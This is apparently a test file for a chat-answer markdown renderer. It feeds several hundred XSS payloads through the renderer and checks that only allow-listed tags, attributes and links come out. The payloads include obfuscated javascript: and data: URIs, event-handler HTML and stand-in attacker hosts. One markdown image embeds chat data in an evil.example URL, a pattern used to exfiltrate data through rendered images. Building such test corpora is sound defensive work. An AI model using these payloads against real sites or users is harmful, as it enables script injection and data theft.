import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Blocks } from "@/components/markdown/block-view";
import { Markdown } from "@/components/markdown/markdown";
import { StreamingMarkdown } from "@/components/markdown/streaming-markdown";

const SCRIPT_ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  " javascript:alert(1)",
  "javascript&#58;alert(1)",
  "javascript&colon;alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
  "&#106;avascript:alert(1)",
  "javascript://example.org/%0aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://example.org/x",
  "file:///etc/passwd",
  "ftp://example.org",
  "//evil.example/x",
  "/api/me",
  "?x=1",
  "#name",
  "\\\\evil.example\\x",
  "https:evil.example",
  "http://a@evil.example/",
  "https://user:secret@evil.example/",
  "tel:1",
  "sms:1",
  "intent://x",
  "view-source:https://x",
  "about:blank",
  "ws://x",
  "jar:https://x",
  "mailto:a@b.c?body=x\nBcc:y",
  "https://",
  "http://[",
  "https://%00",
  "%6aavascript:alert(1)",
];
const HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mi xlink:href='javascript:alert(1)'>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<body onload=alert(1)>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>@import '//evil.example'</style>",
  "<video src=//evil.example onerror=alert(1)>",
  "<audio autoplay src=//evil.example>",
  "<object data=//evil.example>",
  "<embed src=//evil.example>",
  "<form action=//evil.example><button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<div style=background:url(//evil.example)>",
  "<table background=//evil.example>",
  "<marquee onstart=alert(1)>",
  "<template><img src=x></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php <img src=x> ?>",
  "<x onclick=alert(1)>",
  "<img name=getElementById>",
  "<form id=document><input name=cookie>",
  "</div></main><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<IMG SRC=&#106;avascript:alert(1)>",
  "<img src='data:image/svg+xml,<svg/onload=alert(1)>'>",
  "<picture><source srcset=//evil.example></picture>",
  "<portal src=//evil.example>",
  "<isindex action=javascript:alert(1)>",
  "<dialog open onclose=alert(1)>",
  "<button popovertarget=x onclick=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
];
const ADDRESS_FORMS: ((address: string) => string)[] = [
  (address) => `[words](${address})`,
  (address) => `[words](<${address}>)`,
  (address) => `[words](${address} "title")`,
  (address) => `![alt](${address})`,
  (address) => `![alt](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `[words][ref]\n\n[ref]: ${address}`,
  (address) => `[words][ref]\n\n[ref]: <${address}> 'title'`,
  (address) => `![alt][ref]\n\n[ref]: ${address}`,
  (address) => `[![alt](${address})](${address})`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
  (address) => `- [ ] [x](${address})`,
  (address) => `$\\href{${address}}{x}$`,
];
const HTML_FORMS: ((html: string) => string)[] = [
  (html) => html,
  (html) => `a ${html} b`,
  (html) => `> ${html}`,
  (html) => `- ${html}`,
  (html) => `# ${html}`,
  (html) => `| a |\n|---|\n| ${html} |`,
  (html) => `**${html}**`,
  (html) => `[${html}](https://example.org)`,
  (html) => `![${html}](https://example.org/a.png)`,
  (html) => `\`\`\`${html}\n${html}\n\`\`\``,
  (html) => `\`${html}\``,
  (html) => `$${html}$`,
  (html) => `$$\n${html}\n$$`,
  (html) => `[a](https://example.org "${html}")`,
];
const CORPUS = [
  ...SCRIPT_ADDRESSES.flatMap((address) => ADDRESS_FORMS.map((form) => form(address))),
  ...HTML.flatMap((html) => HTML_FORMS.map((form) => form(html))),
];

const ELEMENTS = new Set(
  "a bdi blockquote br button circle code del div em figcaption figure h2 h3 h4 h5 hr input li ol p path pre rect span strong svg table tbody td th thead tr ul".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "aria-hidden aria-label checked class cx cy d data-tooltip data-tooltip-align data-tooltip-side dir disabled fill height href r referrerPolicy referrerpolicy rel rx scope start stroke stroke-linecap stroke-linejoin stroke-width tabindex target type viewBox width x y".split(
    " ",
  ),
);
const TAG = /<\/?([a-zA-Z0-9]+)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;

/** What of the markup is not on the list; nothing is what there must be. */
function findForbidden(markup: string): string[] {
  const found: string[] = [];
  const rest = markup.replace(TAG, (whole, element: string, attributes: string) => {
    if (!ELEMENTS.has(element)) found.push(whole);
    for (const [, name = "", value = ""] of attributes.matchAll(/\s+([a-zA-Z-]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(name)) found.push(whole);
      if (name === "href" && !/^(?:https?:\/\/[^@]+$|mailto:)/.test(value)) found.push(whole);
      if (name === "rel" && value !== "noopener noreferrer nofollow") found.push(whole);
    }
    return "";
  });
  if (/[<>]/.test(rest)) found.push(rest);
  return found;
}

function drawStreamed(text: string): string[] {
  const streaming = new StreamingMarkdown();
  const drawings: string[] = [];
  for (const letter of text) {
    streaming.append(letter);
    drawings.push(
      renderToStaticMarkup(<Blocks blocks={[...streaming.finished, ...streaming.open]} isFinished={false} />),
    );
  }
  return drawings;
}

describe("an answer", () => {
  test(`of ${CORPUS.length} attempts puts nothing into the page but words, marks and checked links`, () => {
    expect(CORPUS.length).toBeGreaterThan(500);
    for (const attempt of CORPUS)
      expect(findForbidden(renderToStaticMarkup(<Markdown text={attempt} />)), attempt).toEqual([]);
  });

  test("is as safe at every letter while it is being written", () => {
    for (const attempt of CORPUS.filter((_, index) => index % 5 === 0)) {
      for (const drawing of drawStreamed(attempt)) expect(findForbidden(drawing), attempt).toEqual([]);
    }
  });

  test("is checked by a check that finds what it looks for", () => {
    for (const bad of [
      "<script>",
      '<a href="javascript:x">',
      '<img src="x">',
      '<p onclick="x">',
      '<p style="x">',
      "a < b",
      '<a href="https://a@b/">',
    ]) {
      expect(findForbidden(bad), bad).not.toEqual([]);
    }
  });

  test("loads no image and names the host it would come from", () => {
    const markup = renderToStaticMarkup(<Markdown text="![a cat](https://evil.example/?chat=secret)" />);
    expect(markup).not.toMatch(/<img|src=/);
    expect(markup).toContain("a cat");
    expect(markup).toContain("evil.example");
  });

  test("shows where a link leads when its words do not", () => {
    expect(renderToStaticMarkup(<Markdown text="[your bank](https://evil.example/login)" />)).toContain(
      "(evil.example)",
    );
    expect(renderToStaticMarkup(<Markdown text="https://example.org/page" />)).not.toContain("(example.org)");
    expect(renderToStaticMarkup(<Markdown text="[https://example.org](https://evil.example)" />)).toContain(
      "(evil.example)",
    );
  });
});
